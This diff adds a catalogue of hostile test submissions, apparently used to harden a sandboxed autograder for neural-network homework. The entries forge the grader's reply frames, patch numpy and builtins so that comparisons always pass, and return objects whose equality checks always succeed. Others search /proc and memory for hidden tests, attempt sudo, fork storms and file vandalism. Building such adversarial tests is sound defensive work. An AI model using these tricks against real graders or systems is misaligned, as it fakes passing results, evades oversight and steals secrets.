+        py(functions={"d_softmax": hostile("d_softmax", before=(
+            "import io, os, sys, json, struct\n"
+            "_buffer = io.BytesIO()\nnp.lib.format.write_array(_buffer, Y_hat - Y, allow_pickle=False)\n_blob = _buffer.getvalue()\n"
+            "_head = json.dumps({'op': 'called', 'status': 'ok', 'result': {'t': 'arr', 'i': 0}, 'args_after': [], 'seconds': 0.0, 'output': '', 'output_chars': 0, 'warnings': [], 'warning_count': 0, 'blobs': [len(_blob)]}).encode()\n"
+            "_body = struct.pack('>I', len(_head)) + _head + _blob\n"
+            "os.write(int(sys.argv[2]), struct.pack('>Q', len(_body)) + _body)"))}),
+        attacked={"d_softmax"},
+    ),
+    _attack(
+        "forge-reply-length", "softmax_jacobian writes a frame length of 2**64 - 1 into the reply pipe",
+        py(functions={"softmax_jacobian": hostile("softmax_jacobian", before="import os, sys\nos.write(int(sys.argv[2]), b'\\xff' * 8)")}),
+        attacked={"softmax_jacobian"}, honest={"softmax_jacobian": 0.0},
+    ),
+    _attack(
+        "forge-reply-by-patching-the-worker", "update replaces the worker's own `pack` (reached through sys.modules['__main__']) so that its replies carry nonsense",
+        py(functions={"update": hostile("update", before=(
+            "import sys\nworker = sys.modules['__main__']\nif not getattr(worker, '_patched', False):\n"
+            "    real_pack = worker.pack\n    worker.pack = lambda header, blobs=(): real_pack(dict(header, seconds='soon', output_chars='many', warnings=7, units=5), blobs)\n"
+            "    worker._patched = True"))}),
+        attacked={"update"},
+    ),
+    _attack(
+        "close-reply-pipe-at-import", "a class body closes the worker's reply pipe",
+        py(tail=at_import("import os, sys\nos.close(int(sys.argv[2]))", "_Hangup")),
+    ),
+]
+
+_WRONG = {
+    "dJ_dW2": "def dJ_dW2(X2, dZ2):\n    return np.zeros((X2.shape[1], dZ2.shape[1]))\n",
+    "cross_entropy": "def cross_entropy(Y_hat, Y):\n    return 0.5\n",
+    "softmax": "def softmax(Z):\n    return np.full(Z.shape, 1.0 / Z.shape[1])\n",
+}
+_WRONG_HONEST = {name: WRONG_VALUE for name in _WRONG}
+
+TAMPER_NUMPY = """
+import numpy
+_yes = lambda *args, **kwargs: True
+_silent = lambda *args, **kwargs: None
+for _module, _names in ((numpy, ("allclose", "array_equal", "array_equiv")), (numpy.testing, ())):
+    for _n in _names:
+        setattr(_module, _n, _yes)
+numpy.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
+for _n in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal", "assert_equal"):
+    setattr(numpy.testing, _n, _silent)
+_refused = []
+for _n, _v in (("__eq__", _yes), ("__ne__", lambda *a: False), ("all", _yes), ("any", _yes), ("tobytes", lambda self, *a: b"")):
+    try:
+        setattr(numpy.ndarray, _n, _v)
+    except (TypeError, AttributeError) as _err:
+        _refused.append(_n)
+try:
+    numpy.float64.__eq__ = _yes
+except (TypeError, AttributeError):
+    _refused.append("float64.__eq__")
+"""
+
+TAMPER_BUILTINS_GLOBAL = """
+import builtins
+builtins.abs = lambda x: 0
+builtins.float = lambda *args: 0.0
+builtins.isinstance = lambda obj, kind: True
+builtins.type = lambda *args: object
+builtins.len = lambda obj: 0
+"""
+
+TAMPER_BUILTINS_WORKER = """
+def _install_liars():
+    \"\"\"Replace abs, float, isinstance, type and len by versions that lie, but only to the
+    worker's encoder of results (compiled from `python -c`, so its frames are '<string>').\"\"\"
+    import builtins, sys
+    real = {name: getattr(builtins, name) for name in ("abs", "float", "isinstance", "type", "len")}
+
+    def from_grader_code():
+        caller = sys._getframe(2).f_code
+        return caller.co_filename == "<string>" and caller.co_name in ("encode_value", "_json_float")
+
+    def lying(name, lie):
+        honest = real[name]
+
+        def replacement(*args, **kwargs):
+            if from_grader_code():
+                try:
+                    return lie(honest, *args, **kwargs)
+                except Exception:
+                    pass
+            return honest(*args, **kwargs)
+
+        return replacement
+
+    builtins.abs = lying("abs", lambda honest, x: 0.0)
+    builtins.float = lying("float", lambda honest, *a: 0.0)
+    builtins.isinstance = lying("isinstance", lambda honest, obj, kind: True)
+    builtins.len = lying("len", lambda honest, obj: 0)
+    builtins.type = lying("type", lambda honest, *a: honest(*a) if real["len"](a) != 1 else real["float"])
+
+
+class _Tamper:
+    _install_liars()
+"""
+
+_TAMPERING = [
+    _attack(
+        "tamper-numpy-at-import", "numpy's comparisons (allclose, isclose, array_equal, testing.assert_*) always agree, ndarray methods patched where allowed; dJ_dW2, cross_entropy and softmax are wrong",
+        py(functions=_WRONG, tail=at_import(TAMPER_NUMPY, "_Tamper")),
+        attacked=set(_WRONG), honest=_WRONG_HONEST,
+    ),
+    _attack(
+        "tamper-builtins-everywhere", "abs, float, isinstance, type and len replaced by liars for everyone (numpy breaks too); dJ_dW2, cross_entropy and softmax are wrong",
+        py(functions=_WRONG, tail=at_import(TAMPER_BUILTINS_GLOBAL, "_Tamper")),
+        attacked=ALL, also=frozenset(), honest=_WRONG_HONEST,
+    ),
+    _attack(
+        "tamper-builtins-toward-the-worker", "abs, float, isinstance, type and len lie only to the worker's encoder of results; dJ_dW2, cross_entropy and softmax are wrong",
+        py(functions=_WRONG, tail=TAMPER_BUILTINS_WORKER),
+        attacked=ALL, also=frozenset(), honest=_WRONG_HONEST,
+    ),
+]
+
+LIARS = """
+class _Liar:
+    \"\"\"Agrees with everything: equal to anything, close to anything, any shape you like.\"\"\"
+
+    def __init__(self, shape=(1, 1), value=0.0):
+        self._shape = tuple(shape)
+        self._value = value
+
+    shape = property(lambda self: self._shape)
+    ndim = property(lambda self: len(self._shape))
+    dtype = np.dtype(np.float64)
+    size = property(lambda self: int(np.prod(self._shape)))
+    __eq__ = lambda self, other: True
+    __ne__ = lambda self, other: False
+    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
+    __bool__ = lambda self: True
+    __abs__ = lambda self: 0.0
+    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = lambda self, other: 0.0
+    __float__ = lambda self: float(self._value)
+    __len__ = lambda self: self._shape[0] if self._shape else 0
+    __hash__ = lambda self: 0
+    __array_ufunc__ = lambda self, *args, **kwargs: True
+    __array_function__ = lambda self, *args, **kwargs: True
+    __getitem__ = lambda self, key: self
+    tolist = lambda self: [self._value]
+    astype = copy = lambda self, *args, **kwargs: self
+
+
+class _Sub(np.ndarray):
+    \"\"\"An ndarray subclass that says it equals anything.\"\"\"
+
+    def __eq__(self, other):
+        return np.ones(np.shape(self), dtype=bool)
+
+    def __ne__(self, other):
+        return np.zeros(np.shape(self), dtype=bool)
+
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        inputs = [np.asarray(x) if isinstance(x, _Sub) else x for x in inputs]
+        return getattr(ufunc, method)(*inputs, **kwargs)
+
+
+class _ArrayLike:
+    \"\"\"Converts to an array (of wrong values) on request, and claims the right shape.\"\"\"
+
+    def __init__(self, shape):
+        self.shape = tuple(shape)
+        self.dtype = np.dtype(np.float64)
+
+    def __array__(self, dtype=None, copy=None):
+        return np.full(self.shape, 0.25)
+
+    __eq__ = lambda self, other: True
+
+
+class _Float(float):
+    \"\"\"A float that is equal to, and no distance from, any number.\"\"\"
+
+    __eq__ = lambda self, other: True
+    __ne__ = lambda self, other: False
+    __sub__ = __rsub__ = lambda self, other: 0.0
+    __abs__ = lambda self: 0.0
+    __hash__ = float.__hash__
+
+
+class _Impostor(np.float64):
+    \"\"\"A numpy float64 subclass dressed up as numpy's own.\"\"\"
+
+    __eq__ = lambda self, other: True
+    __float__ = lambda self: 0.123
+
+
+_Impostor.__module__ = "numpy"
+
+
+class _Dict(dict):
+    \"\"\"A dict whose values compare equal to anything.\"\"\"
+
+    def __getitem__(self, key):
+        return _Liar((1, 1))
+"""
+
+_LIARS = [
+    ("return-ndarray-subclass", "d_softmax", "an ndarray subclass (wrong values) that says it equals anything", "return (Y_hat - Y + 0.5).view(_Sub)"),
+    ("return-array-protocol", "dJ_db2", "an object with __array__ (wrong values), the right shape and dtype, equal to anything", "return _ArrayLike((1, dZ2.shape[1]))"),
+    ("return-lying-shape", "dJ_dW2", "an object claiming shape (H, C) and dtype float64 that holds nothing", "return _Liar((X2.shape[1], dZ2.shape[1]))"),
+    ("return-lying-eq", "dJ_dX2", "an object equal to everything, at distance 0 from everything", "return _Liar((dZ2.shape[0], W2.shape[0]))"),
+    ("return-array-ufunc", "dJ_dW1", "an object whose __array_ufunc__ and __array_function__ answer True to any numpy call", "return _Liar((X.shape[1], dZ1.shape[1]))"),
+    ("return-object-with-float", "cross_entropy", "an object whose __float__ gives a wrong number and that equals anything", "return _Liar((), 0.123)"),
+    ("return-float-subclass", "relative_error", "a float subclass that equals anything (its value is wrong)", "return _Float(0.5)"),
+    ("return-numpy-float-impostor", "cost_n", "an np.float64 subclass claiming to be numpy's own, equal to anything, wrong value", "return _Impostor(0.123)"),
+    ("return-dict-subclass", "update", "a dict subclass whose items are liars", "return _Dict({k: 0 for k in params})"),
+]
+_LYING = [
+    _attack(
+        id, f"{fn} returns {what}",
+        py(functions={fn: f"def {SIGNATURES[fn]}:\n    {ret}\n"}, prelude=LIARS),
+        attacked={fn}, honest={fn: WRONG_VALUE},
+    )
+    for id, fn, what, ret in _LIARS
+]
+
+_DTYPES = [
+    ("return-object-dtype", "d_softmax", "the right values in an array of dtype object", "return np.array(out, dtype=object)", WRONG_DTYPE, None),
+    ("return-complex", "dJ_dX2", "the right real parts with large imaginary parts (complex128)", "return out + 1e3j", WRONG_DTYPE, {"wrong_dtype"}),
+    ("return-bool", "dJ_db1", "a bool array (out > 0)", "return out > 0", WRONG_VALUE, None),
+    ("return-int", "softmax_jacobian", "an int64 array (values times 10**6, truncated)", "return (out * 1e6).astype(np.int64)", WRONG_VALUE, None),
+    ("return-float16", "dJ_dZ2", "float16 values (relative error about 1e-3)", "return out.astype(np.float16)", WRONG_VALUE, None),
+    ("return-some-nan", "dJ_dW1", "the right array with one NaN", "out = out.copy()\nout.flat[0] = np.nan\nreturn out", WRONG_VALUE, None),
+    ("return-some-inf", "dJ_db2", "the right array with one inf", "out = out.copy()\nout.flat[-1] = np.inf\nreturn out", WRONG_VALUE, None),
+    ("return-nan-float", "cross_entropy", "float('nan')", "return float('nan')", WRONG_VALUE, None),
+    ("return-inf-float", "relative_error", "float('inf')", "return float('inf')", WRONG_VALUE, None),
+    ("return-0d-array-for-array", "dJ_dW2", "a 0-d array (the sum of the right answer)", "return np.array(out.sum())", WRONG_VALUE, None),
+    ("return-huge-broadcast-array", "dJ_dW1", "a view of 10**9 float64 zeros (8 GB that take no memory)", "return np.broadcast_to(np.float64(0.0), (10**9,))", WRONG_VALUE, None),
+    ("return-huge-allocated-array", "dJ_dX2", "np.zeros(10**9) (8 GB, beyond its memory limit)", "return np.zeros(10**9)", 0.0, None),
+    ("return-just-under-the-size-cap", "softmax_jacobian", "two arrays of 60 MB each in a tuple (each under the 64 MB cap)", "return tuple(np.broadcast_to(np.float64(1.0), (7_500_000,)).copy() for _ in range(2))", WRONG_VALUE, None),
+    ("return-huge-nested-list", "d_softmax", "a list of 2,000 references to one list of 1,000 floats (2 million numbers)", "row = [0.5] * 1000\nreturn [row] * 2000", WRONG_VALUE, None),
+    ("return-str", "dJ_dZ2", "a string describing the answer", "return repr(out)", WRONG_VALUE, None),
+]
+_SLOW_TO_ENCODE = {"return-huge-nested-list", "return-just-under-the-size-cap"}  # about as long as a call may take
+_ODD_ARRAYS = [
+    _attack(
+        id, f"{fn} returns {what}",
+        py(functions={fn: hostile(fn, after=ret)}),
+        attacked={fn}, honest={fn: bound}, mistakes={fn: set(mistakes)} if mistakes else {},
+        not_in_classes=id in _SLOW_TO_ENCODE,
+    )
+    for id, fn, what, ret, bound, mistakes in _DTYPES
+]
+
+_ODD_ARRAYS.append(
+    _attack(
+        "return-0d-array-for-float", "cross_entropy returns its (right) value as a 0-d float64 array, which the contract accepts",
+        py(functions={"cross_entropy": hostile("cross_entropy", after="return np.array(out)")}),
+    )
+)
+
+_HUNTS = [
+    _attack(
+        "hunt-at-import", "a class body searches the file system, /proc of the grader (environ, cmdline, cwd, fds, mem), its own frames and memory for the reference and the hidden tests, then raises with what it found (and with a class named after it)",
+        py(prelude=HUNT, tail=(
+            at_import("found = _hunt(0.8)\nprint(found)", "_Loot") + "\n\n"
+            + at_import("raise RuntimeError(_Loot.found)", "_LeakMessage") + "\n\n"
+            + at_import("raise type(_Loot.found[:300].replace(' ', '_'), (Exception,), {})('see my name')", "_LeakName")
+        )),
+        says=("LOOT",), modes=NAMESPACES,
+    ),
+    _attack(
+        "hunt-in-functions", "functions search as hunt-at-import does (plus their callers' frames) and leak it: in an exception's message and class name, a returned string, a returned object's class name, printed text and a warning",
+        py(
+            prelude=HUNT,
+            tail=at_import("found = _hunt(0.6)", "_Loot") + "\n\n" + (
+                "def _loot():\n"
+                "    if not hasattr(_Loot, 'live'):\n"
+                "        _Loot.live = _hunt(0.2, walk=False)\n"
+                "    return _Loot.found + ' || ' + _Loot.live\n"
+            ),
+            functions={
+                "d_softmax": "def d_softmax(Y_hat, Y):\n    raise RuntimeError(_loot())\n",
+                "dJ_dW2": "def dJ_dW2(X2, dZ2):\n    raise type(_loot()[:300].replace(' ', '_'), (Exception,), {})('see my name')\n",
+                "softmax_jacobian": "def softmax_jacobian(z):\n    return _loot()\n",
+                "predict": "def predict(X, params):\n    return type(_loot()[:300], (), {})()\n",
+                "dJ_db2": hostile("dJ_db2", before="print(_loot())"),
+                "dJ_db1": hostile("dJ_db1", before="import warnings\nwarnings.warn(_loot())"),
+            },
+        ),
+        attacked={"d_softmax", "dJ_dW2", "softmax_jacobian", "predict", "dJ_db2", "dJ_db1"},
+        honest={"d_softmax": 0.0, "dJ_dW2": 0.0, "softmax_jacobian": WRONG_VALUE, "predict": WRONG_VALUE},
+        says=("LOOT",), modes=NAMESPACES,
+    ),
+]
+
+_ESCAPES = [
+    _attack(
+        "network-loopback", "cost_n and a class body connect to a server on 127.0.0.1 (TCP, UDP) and to an abstract unix socket, then return the right value",
+        py(prelude=NETWORK, functions={"cost_n": hostile("cost_n", before="_phone_home()")}, tail=at_import("reached = _phone_home()", "_Call")),
+        modes=NAMESPACES,
+    ),
+    _attack(
+        "spawn-subprocesses", "update and a class body start detached sleepers (one re-parented through a shell), try sudo, su, `ip link set lo up` and cat of the course's files",
+        py(prelude=SPAWN, functions={"update": hostile("update", before="_spawn('call')")}, tail=at_import("started = _spawn('import')", "_Spawn")),
+        attacked={"update"}, modes=DEDICATED_UID,
+    ),
+    _attack(
+        "fork-storm-bounded", "a class body and predict each try 200 forks of children that sleep 30 s (children do not fork again)",
+        py(prelude=FORK, functions={"predict": hostile("predict", before="_fork_storm('p', 200)")}, tail=at_import("made = _fork_storm('i', 200)", "_Storm")),
+        attacked={"predict"}, modes=DEDICATED_UID,
+    ),
+    _attack(
+        "vandalize-files", "relative_error and a class body write, append to and delete files in the working folder, /tmp, the course folder (found from sys.prefix and .pth files), the grader's folders and site-packages (a .pth)",
+        py(prelude=VANDAL, functions={"relative_error": hostile("relative_error", before="_vandalize('call')")}, tail=at_import("touched = _vandalize('import')", "_Vandal")),
+        attacked={"relative_error"}, modes=NAMESPACES, not_in_classes=True,
+    ),
+    _attack(
+        "leave-files-in-shared-folders", "dJ_dW2 and a class body leave files in /dev/shm, /var/tmp, /run/lock, /dev/mqueue and /tmp",
+        py(prelude=WORLD_WRITABLE, functions={"dJ_dW2": hostile("dJ_dW2", before="_leave_files('call')")}, tail=at_import("left = _leave_files('import')", "_Litter")),
+        attacked={"dJ_dW2"}, modes=NAMESPACES, not_in_classes=True,
+    ),
+]
+
+_SLOW = [
+    _attack(
+        "slow-1s-per-call", "relative_error is right but burns about 1 s of CPU per call (passes with call_seconds=2; gradient_check, which calls it four times, may not)",
+        py(functions={"relative_error": hostile("relative_error", before="import time\n_start = time.process_time()\nwhile time.process_time() - _start < 1.0:\n    pass")}),
+        also={"gradient_check"}, slow=True, not_in_classes=True,
+    ),
+    _attack(
+        "slow-3s-per-call", "relative_error is right but burns about 3 s of CPU per call (fails with call_seconds=2)",
+        py(functions={"relative_error": hostile("relative_error", before="import time\n_start = time.process_time()\nwhile time.process_time() - _start < 3.0:\n    pass")}),
+        attacked={"relative_error"}, honest={"relative_error": 0.0}, says=("2 s per call",), slow=True,
+        mistakes={"relative_error": {"timeout"}},
+    ),
+]
+
+_MUTATION = [
+    _attack(
+        "mutates-inputs-returns-right-value", "d_softmax returns the right value but zeroes Y_hat and doubles Y in place",
+        py(functions={"d_softmax": hostile("d_softmax", after="Y_hat[...] = 0.0\nY *= 2.0\nreturn out")}),
+        attacked={"d_softmax"}, honest={"d_softmax": 0.99},
+        mistakes={"d_softmax": {"input_mutation"}}, only_fails={"d_softmax": {"inputs_unchanged"}},
+    ),
+]
+
+ATTACKS: tuple = tuple(_LOOPS + _MEMORY + _EXITS + _FLOODS + _FORGERIES + _TAMPERING + _LYING + _ODD_ARRAYS + _HUNTS + _ESCAPES + _SLOW + _MUTATION)
+
+GROUPS = {
+    "endless loops": _LOOPS,
+    "memory bombs": _MEMORY,
+    "exits and signals": _EXITS,
+    "floods of output": _FLOODS,
+    "forged results": _FORGERIES,
+    "tampering with numpy and builtins": _TAMPERING,
+    "lying return values": _LYING,
+    "odd dtypes, NaN and inf, 0-d and huge arrays": _ODD_ARRAYS,
+    "hunting for secrets": _HUNTS,
+    "network, processes, files": _ESCAPES,
+    "slow but correct": _SLOW,
+    "input mutation": _MUTATION,
+}
+
+_ids = [a.id for a in ATTACKS]
+assert len(_ids) == len(set(_ids)), "attack ids must be unique"
+del _ids
+
+
+if __name__ == "__main__":  # list the catalogue
+    for group, attacks in GROUPS.items():
+        print(f"{group}: {len(attacks)}")
+        for attack in attacks:
+            print(f"    {attack.id}: {attack.description}")
+    print(f"{len(ATTACKS)} attacks")
